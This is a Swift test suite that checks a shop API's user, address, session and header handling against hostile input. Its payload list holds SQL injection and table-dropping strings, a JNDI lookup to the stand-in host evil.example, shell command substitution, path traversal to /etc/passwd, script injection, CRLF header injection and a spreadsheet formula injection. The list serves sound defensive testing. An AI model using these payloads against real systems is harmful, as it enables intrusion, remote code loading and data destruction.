import Core
import HTTP
import JSON
import KitTesting
import Middleware
import Postgres
import Testing

/// Texts made to do harm, in every field that takes a text: kept to the letter or refused, and
/// nothing else happens.
@Suite struct HostileTextTests {
  private static let texts = [
    "'; DROP TABLE identity.users; --", "' OR '1'='1", "\\'; DELETE FROM outbox.events; --",
    "$1", "%s%n%x", "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(reboot)", "`reboot`",
    "../../etc/passwd", "<script>alert(1)</script>", "a\r\nSet-Cookie: x=1", "\u{202e}txt.exe",
    "\u{feff}x", "🏴‍☠️👨‍👩‍👧‍👦", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "\u{10ffff}", "NULL", "nan", "{1,2}", "\\x00",
    "=cmd|' /C calc'!A0", String(repeating: "'", count: 90),
  ]

  @Test func isKeptToTheLetterOrRefused() throws {
    let scene = try BodyScene()
    let tables = Set(try scene.bazaar.stack.database.contents().keys)
    for route in BodyRoute.all { attempt(route, in: scene) }
    #expect(Set(try scene.bazaar.stack.database.contents().keys) == tables)
    #expect(!scene.bazaar.stack.log.lines.contains { $0.contains("\"level\":\"error\"") })
  }

  private func attempt(_ route: BodyRoute, in scene: BodyScene) {
    // Where a password is hashed each try is dear.
    let texts = route.hashes ? Self.texts.prefix(3) : Self.texts[...]
    for field in route.texts {
      for text in texts {
        let answer = scene.send(route, route.with(field, .string(text)))
        let comment: Comment = "\(route), \(field) = \(text): \(answer)"
        if answer.status >= 400 {
          #expect(
            answer.isProblem && answer.status < 500 && answer.code != "token_revoked", comment)
        } else if let stored = answer.data?[field]?.string {
          #expect(stored == text, comment)
        }
      }
    }
  }

  /// What is read later is what was sent, and no header came of it.
  @Test func linesThatBreakBecomeNoHeaders() throws {
    let scene = try BodyScene()
    let text = "x\r\nX-Injected: 1"
    guard case .object(var home) = Bazaar.home else { return }
    for field in ["ward", "district", "postcode"] { home[field] = .string(text) }
    let answer = scene.bazaar.users.send(
      "POST", "/api/v1/users/addresses", token: scene.ana.token, json: .object(home))
    for field in ["recipient", "street", "city"] {
      home[field] = .string(text)
      let refused = scene.bazaar.users.send(
        "POST", "/api/v1/users/addresses", token: scene.ana.token, json: .object(home))
      #expect(refused.violations.contains("\(field) invalid_text"))
    }
    let all = answer.response.headers
    #expect(!all.contains { $0.name == "X-Injected" || $0.value.contains("\n") })
    #expect(
      answer.violations == ["ward invalid_text", "district invalid_text", "postcode invalid_text"])
  }

  @Test func headersThatDoHarmDoNone() throws {
    let scene = try BodyScene()
    let fields: [Field] = [
      .accept, .authorization, .contentLength, .ifMatch, .ifNoneMatch, .origin, .requestID,
      .traceParent, .userAgent, .idempotencyKey, .requestedMethod,
    ]
    let values = Self.texts + [String(repeating: "a", count: 8000), "\u{0}", "", ","]
    for field in fields {
      for value in values {
        let answer = scene.bazaar.users.send(
          "GET", "/api/v1/users/me",
          token: field.parameter == "HTTP_AUTHORIZATION" ? nil : scene.ana.token,
          headers: [(field, value)])
        #expect(
          [200, 304, 401].contains(answer.status), "\(field.parameter) = \(value): \(answer)")
      }
    }
  }

  @Test func aHostileDeviceNameIsJustAName() throws {
    let bazaar = try Bazaar()
    _ = try bazaar.register()
    for agent in ["'; DROP TABLE identity.sessions; --", "<img src=x>", "\u{202e}abc"] {
      let answer = bazaar.auth.send(
        "POST", "/api/v1/auth/login",
        json: ["email": "ana@example.com", "password": .string(Bazaar.password)],
        headers: [(.userAgent, agent)])
      let list = bazaar.auth.send(
        "GET", "/api/v1/auth/sessions", token: try Shopper(answer).access)
      let current = list.data?.array?.first { $0["current"]?.bool == true }
      #expect(current?["device"] == .string(agent))
    }
  }
}
